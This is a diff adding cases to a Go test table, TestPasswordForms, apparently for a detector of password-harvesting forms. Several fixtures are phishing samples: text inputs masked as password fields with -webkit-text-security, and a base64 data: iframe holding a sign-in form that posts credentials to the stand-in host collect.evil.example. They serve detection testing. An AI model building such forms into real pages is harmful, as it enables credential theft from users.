@@ -95,6 +95,10 @@ func TestPasswordForms(t *testing.T) {
 		{"the rule quoted in the text", "", `<p>Use -webkit-text-security: disc in CSS.</p><form action="https://shop.example/s"><input name="q"></form>`, nil, false},
 		{"a newsletter form in a data: frame", page, `<iframe src="data:text/html;base64,PGZvcm0gYWN0aW9uPSJodHRwczovL2xpc3QuZXhhbXBsZS9zdWIiPjxpbnB1dCB0eXBlPSJlbWFpbCIgbmFtZT0iZSI+PGJ1dHRvbj5TdWJzY3JpYmU8L2J1dHRvbj48L2Zvcm0+"></iframe>`, nil, false},
 		{"a data: frame of plain text", page, `<iframe src="data:text/plain;base64,PGZvcm0gYWN0aW9uPSJodHRwczovL2NvbGxlY3QuZXZpbC5leGFtcGxlL3AiIG1ldGhvZD0icG9zdCI+PGlucHV0IG5hbWU9InUiPjxpbnB1dCB0eXBlPSJwYXNzd29yZCIgbmFtZT0icCI+PGJ1dHRvbj5TaWduIGluPC9idXR0b24+PC9mb3JtPg=="></iframe>`, nil, false},
+		{"a saved page's rule for its password fields beside a search form", page, `<style>input[type="password"]{font-family:Verdana;-webkit-text-security:disc}</style><form action="https://shop.example/search"><input type="search" name="q"><input type=text name=zip></form>`, nil, false},
+		{"a rule on password fields by class", "", `<style>input.pw[type=password], .x{-webkit-text-security:disc}</style><form action="https://shop.example/s"><input class="pw" name="q"></form>`, nil, false},
+		{"a rule on text fields by type", "", `<style>form input[ type = 'text' ]{-webkit-text-security:disc}</style><form action="https://collect.evil.example/p"><input name="p"></form>`, []string{"collect.evil.example"}, false},
+		{"a rule on text fields by type, case-insensitive flag", "", `<style>input[type="TEXT" i]{-webkit-text-security:disc}</style><form action="https://collect.evil.example/p"><input type=text name="p"></form>`, []string{"collect.evil.example"}, false},
 		{"a prefix bound to another namespace", svg, `<svg xmlns:h="http://example.org/ns"><foreignObject><h:form action="https://collect.evil.example/p"><h:input type="password"/></h:form></foreignObject></svg>`, nil, false},
 	} {
 		t.Run(tc.name, func(t *testing.T) {
